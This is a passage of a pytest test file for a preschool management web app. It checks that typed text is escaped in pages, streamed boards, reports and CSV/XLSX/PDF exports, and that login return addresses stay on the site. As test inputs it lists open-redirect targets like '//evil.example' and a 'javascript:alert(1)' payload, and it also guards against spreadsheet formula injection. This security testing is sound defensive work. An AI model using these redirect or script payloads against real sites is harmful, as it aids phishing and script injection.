             ("director", "/reports/work-plan/{group}/2026-11")],
    "uwaga-planu": [("director", "/groups/{group}/plans"), ("director", "/groups/{group}/plans/2026-11")],
    "obszar": [("director", "/children/{child}/observations"),
               ("director", "/parent/children/{child}/observations")],
    "obserwacja": [("director", "/children/{child}/observations")],
    "do-zmiany": [("director", "/children/{child}/observations")],
    "zmieniona": [("director", "/children/{child}/observations"),
                  ("director", "/parent/children/{child}/observations")],
    "gotowosc": [("director", "/children/{child}/readiness/2027"),
                 ("director", "/parent/children/{child}/observations"),
                 ("director", "/reports/readiness/{child}/2027")],
    "notatka": [("director", "/staff-absences?show=all")],
    "skrocona": [("director", "/staff-absences?show=all")],
    "odwolana": [("director", "/staff-absences?show=all")],
    "wiadomosc": [("teacher", "/replies")],
    "czeka": [("teacher", "/replies"), ("director", "/replies/panel")],
    "bez-odpowiedzi": [("teacher", "/replies")],
    "wiadomosc-temat": [("parent", "/messages"), ("parent", "/messages/{message}"),
                        ("teacher", "/messages/sent"), ("teacher", "/messages/{message}")],
    "wiadomosc-tresc": [("parent", "/messages/{message}"), ("teacher", "/messages/{message}")],
    "odpowiedz": [("teacher", "/messages/{message}"), ("parent", "/messages/{message}")],
}  # fmt: skip
"""Where each field's text must be seen (escaped): the crawl is not passed by a value that
was never stored or never shown."""


def test_each_field_is_shown_escaped_where_it_belongs(typed: Typed) -> None:
    missing = []
    for tag, places in SHOWN.items():
        for role, template in places:
            path = template.format(
                day=typed.day_page(),
                today=f"/groups/{typed.site.motylki}/days/{datetime.now(typed.site.settings.tz).date()}",
                zabki=typed.site.zabki,
                olek=typed.site.olek,
                guardian=typed.guardian,
                closed=typed.day_page(CLOSED),
                child=typed.child,
                ania=typed.site.ania,
                account=typed.account,
                group=typed.group,
                message=typed.message,
            )
            if not shows(typed.get(role, path), typed.value(tag)):
                missing.append(f"{tag} on {role} {path}")
    assert missing == [], "\n".join(missing)


def test_the_pushed_presence_board_is_inert(typed: Typed) -> None:
    """The board the presence page swaps in (innerHTML) from its event stream."""
    client = typed.site.client("teacher")
    streamed = open_stream(typed.site.app, "/presence/events", dict(client.cookies.items()), events=1)
    assert streamed.status == 200 and streamed.events[0]["event"] == "board"
    board = json.loads(streamed.events[0]["data"])
    assert_inert(board, typed.payload, "/presence/events")
    assert shows(board, typed.value("imie")) and shows(board, typed.value("grupa"))


def test_the_api_answers_json_never_html(typed: Typed) -> None:
    """The API returns the stored text as JSON (a browser does not run it), never as HTML."""
    response = typed.site.client("director").get(f"/api/children/{typed.child}")
    assert response.headers["content-type"].startswith("application/json")
    assert response.json()["first_name"] == typed.value("imie")


def test_values_reflected_from_the_address_are_inert(typed: Typed) -> None:
    p = quote(typed.payload, safe="")
    director = typed.site.client("director")
    anonymous = TestClient(typed.site.app, base_url=BASE_URL)
    for client, path in (
        (director, f"/audit?actor={p}&entity={p}&from={p}&page={p}"),
        (director, f"/audit?page={p}&actor={p}"),
        (director, f"/inconsistencies?from={p}&group={p}"),
        (director, f"/statistics?group={p}&period={p}"),
        (director, f"/statistics?group={typed.group}&period={p}"),
        (director, f"/reports/{p}"),
        (director, f"/reports/daily-sheet?date={DAY}&group={p}"),
        (director, f"/admin/logins?from={p}"),
        (director, f"/registry/guardians?child={p}"),
        (director, f"/children/{typed.child}?month={p}"),
        (director, f"/cards?uid={p}&child={p}&unknown_page={p}"),
        (director, f"/groups/{typed.group}/days/{DAY}?fix={p}&kind={p}&target={p}"),
        (director, f"/account/welcome?next=/{p}"),
        (director, f"/account?next=/{p}"),
        (director, f"/calendar?month={p}"),
        (director, f"/messages/new?to={p}"),
        (director, f"/messages?page={p}"),
        (anonymous, f"/login?next=/{p}"),
        (anonymous, f"/login?next={p}"),
    ):
        response = client.get(path, headers={"accept": "text/html"}, follow_redirects=False)
        assert response.status_code in (200, 404, 422), (path, response.status_code)
        assert_inert(response.text, typed.payload, path)


# -- reports: print views, CSV and XLSX ----------------------------------------------------

REPORTS = {
    "daily-sheet": f"date={DAY}&group={{group}}",
    "monthly-grid": f"month={MONTH}&group={{group}}",
    "stay-report": f"month={MONTH}&child={{child}}",
    "fee-summary": f"month={MONTH}",
    "meal-count": f"date={DAY}",
    "ledger-statement": "child={child}",
    "reminder": "child={child}",
    "receivables": f"month={MONTH}",
    "arrears": "",
    "attendance-stats": f"month={MONTH}&group={{group}}",
}
REPORT_SHOWS = {
    "receivables": ("przelew", "nadawca"),
    "daily-sheet": ("imie", "nazwisko", "posiadacz", "korekta", "grupa"),
    "monthly-grid": ("imie", "nazwisko", "grupa"),
    "attendance-stats": ("imie", "nazwisko", "grupa"),
    "stay-report": ("imie", "nazwisko", "numer"),
    "fee-summary": ("imie", "nazwisko", "numer", "grupa"),
}


def report(typed: Typed, name: str, fmt: str) -> bytes:
    query = REPORTS[name].format(group=typed.group, child=typed.child)
    response = typed.site.client("director").get(f"/reports/{name}?{query}&format={fmt}")
    assert response.status_code == 200, (name, fmt, response.text[:500])
    return response.content


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_report_print_views_are_inert(typed: Typed, name: str) -> None:
    html = report(typed, name, "html").decode()
    assert_inert(html, typed.payload, name)
    missing = [tag for tag in REPORT_SHOWS.get(name, ()) if not shows(html, typed.value(tag))]
    assert missing == [], "\n".join(missing)


def cells_with_user_text(typed: Typed, rows: list[list[Any]]) -> list[str]:
    """Cells that hold something typed into a form (the payload's text is in them)."""
    marker = typed.payload[1:12]
    return [str(cell) for row in rows for cell in row if cell is not None and marker in str(cell)]


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_csv_cells_of_typed_text_are_not_formulas(typed: Typed, name: str) -> None:
    rows = list(csv.reader(io.StringIO(report(typed, name, "csv").decode())))
    typed_cells = cells_with_user_text(typed, rows)
    if name in REPORT_SHOWS:
        assert typed_cells, "the report shows none of the typed text: the check would be vacuous"
    assert [cell for cell in typed_cells if cell.startswith(FORMULA_START)] == []


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_xlsx_cells_are_never_formulas(typed: Typed, name: str) -> None:
    book = load_workbook(io.BytesIO(report(typed, name, "xlsx")))
    formulas = [
        f"{sheet.title}!{cell.coordinate}={cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    rows = [[cell.value for cell in row] for sheet in book.worksheets for row in sheet.iter_rows()]
    if name in REPORT_SHOWS:
        assert cells_with_user_text(typed, rows)


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_report_pdfs_print_typed_text_as_typed(typed: Typed, name: str, tmp_path: Path) -> None:
    path = tmp_path / f"{name}.pdf"
    path.write_bytes(report(typed, name, "pdf"))
    command = ["pdftotext", "-raw", str(path), "-"]  # -raw: each cell's lines together, as laid out
    printed = "".join(subprocess.run(command, capture_output=True, text=True, check=True).stdout.split())
    missing = [tag for tag in REPORT_SHOWS.get(name, ()) if "".join(typed.value(tag).split()) not in printed]
    assert missing == [], "\n".join(missing)


def test_the_my_data_pdf_prints_typed_text_as_typed(typed: Typed, tmp_path: Path) -> None:
    """The parent's "my data" PDF shows her child's absence and the door's correction with
    their typed reasons, printed as typed."""
    response = typed.site.client("parent").get("/account/data.pdf")
    assert response.status_code == 200
    path = tmp_path / "my-data.pdf"
    path.write_bytes(response.content)
    command = ["pdftotext", "-raw", str(path), "-"]
    printed = "".join(subprocess.run(command, capture_output=True, text=True, check=True).stdout.split())
    missing = [tag for tag in ("nieobecnosc", "drzwi") if "".join(typed.value(tag).split()) not in printed]
    assert missing == [], "\n".join(missing)


def test_every_childs_stay_reports_in_one_pdf_print_typed_text_as_typed(typed: Typed, tmp_path: Path) -> None:
    """The director's one PDF of every child's stay report: the same template, given a list."""
    query = f"month={MONTH}&group={typed.group}&every_child=true&format=pdf"
    response = typed.site.client("director").get(f"/reports/stay-report?{query}")
    assert response.status_code == 200, response.text[:500]
    path = tmp_path / "every.pdf"
    path.write_bytes(response.content)
    command = ["pdftotext", "-raw", str(path), "-"]
    printed = "".join(subprocess.run(command, capture_output=True, text=True, check=True).stdout.split())
    missing = [tag for tag in REPORT_SHOWS["stay-report"] if "".join(typed.value(tag).split()) not in printed]
    assert missing == [], "\n".join(missing)


# -- any text at all, and addresses to return to -----------------------------------------------

TRICKY = st.lists(
    st.sampled_from(
        [*"<>\"'&/=`;:(){}[]!@#$%*+-_ \t\nabcxyzĄęŁż\u00a0\u202e\u200b", "&amp;", "&#x3c;", "-->"]
    ),
    min_size=1,
    max_size=30,
).map("".join)
"""Text made of what HTML, attributes, templates and entities treat specially."""


@pytest.fixture(scope="module")
def plain_site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    return Site.make(tmp_path_factory.mktemp("fuzz"))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=TRICKY)
def test_any_text_in_a_form_comes_back_as_the_same_text(plain_site: Site, text: str) -> None:
    """Whatever is typed as a group's teachers is shown as exactly that text (escaped), and
    the page has no element or attribute of it."""
    director = plain_site.client("director")
    posted(director, f"/registry/groups/{plain_site.zabki}", {"name": "Żabki", "teachers": text})
    html = director.get("/registry/groups").text
    stored = text.strip()
    if stored:
        assert shows(html, stored)
    assert injected(html) == []


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r\n/evil.example",
        "/\\evil.example",
        "//evil.example",
        "javascript:alert(1)",
        " javascript:alert(1)",
        "https://evil.example",
    ],
)
def test_a_return_address_never_leads_off_the_site(target: str) -> None:
    """`next` after login: browsers drop tabs and newlines from a URL, so `/<TAB>/evil.example`
    is `//evil.example` — another site — once it is a link's href."""
    assert on_site(target) == "/"


def test_the_welcome_pages_continue_link_stays_on_the_site(plain_site: Site) -> None:
    client = plain_site.client("secretary")
    page = f"{BASE_URL}/account/welcome?next=" + quote("/\t/evil.example", safe="")
    html = client.get(page).text
    links = [attrs.get("href") or "" for tag, attrs, _body in _elements(html) if tag == "a"]
    # As a browser reads an href: tabs and newlines dropped, then resolved against the page.
    hosts = {
        urlsplit(urljoin(page, "".join(ch for ch in href if ch not in "\t\n\r"))).netloc for href in links
    }
    assert hosts == {"testserver"}


def _elements(html: str) -> list[tuple[str, dict[str, str | None], bool]]:
    page = Parsed()
    page.feed(html)
    return page.elements
